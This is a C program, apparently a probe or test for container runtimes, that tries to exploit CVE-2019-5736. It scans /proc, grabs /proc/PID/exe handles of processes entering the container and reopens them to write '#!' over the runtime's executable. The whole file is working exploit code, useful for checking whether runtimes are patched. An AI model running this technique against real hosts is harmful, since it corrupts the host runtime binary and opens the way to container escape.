/* overwrite SECONDS HARMLESS… looks for processes that enter its pid namespace and tries
 * to write to their executables (CVE-2019-5736). Executables of the image are given as
 * HARMLESS; all others are the runtime's. It prints "waiting" first. Then it opens
 * /proc/PID/exe of each process, and tries to reopen it for writing, also when the
 * process has ended. It ends after SECONDS, or at once with "OVERWRITTEN". */
#define _GNU_SOURCE
#include <dirent.h>
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static struct stat harmless[8];
static int harmless_len;
static int held[64], held_len;

static int is_harmless(const struct stat *st)
{
	for (int i = 0; i < harmless_len; i++)
		if (st->st_ino == harmless[i].st_ino && st->st_dev == harmless[i].st_dev)
			return 1;
	return 0;
}

/* The highest pid that was seen: that of the next process is a little higher. */
static int newest;

static void hold(const char *pid)
{
	char path[300];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (atoi(pid) > newest)
		newest = atoi(pid);
	if (fstat(fd, &st) < 0 || is_harmless(&st) || held_len == 64) {
		close(fd);
		return;
	}
	held[held_len++] = fd;
}

/* A process that enters has the executable of the runtime for a moment only. */
static void hold_next(void)
{
	char pid[16];

	for (int round = 0; round < 200; round++)
		for (int i = 1; i <= 4; i++) {
			snprintf(pid, sizeof(pid), "%d", newest + i);
			hold(pid);
		}
}

static int try_to_write(int fd)
{
	char path[64];
	int target, written;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	target = open(path, O_WRONLY | O_CLOEXEC);
	if (target < 0)
		return 0;
	written = write(target, "#!", 2) == 2;
	close(target);
	return written;
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);

	for (int i = 2; i < argc && harmless_len < 8; i++)
		if (stat(argv[i], &harmless[harmless_len++]) < 0)
			err(1, "%s", argv[i]);
	puts("waiting");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		if (!proc)
			err(1, "/proc");
		while ((entry = readdir(proc)))
			if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
				hold(entry->d_name);
		closedir(proc);
		hold_next();
		for (int i = 0; i < held_len; i++) {
			if (try_to_write(held[i])) {
				puts("OVERWRITTEN");
				return 0;
			}
		}
		/* Close those that have failed many times, to make room for newer ones. */
		if (held_len == 64) {
			for (int i = 0; i < held_len; i++)
				close(held[i]);
			held_len = 0;
		}
	}
	puts("nothing to write to");
	return 0;
}
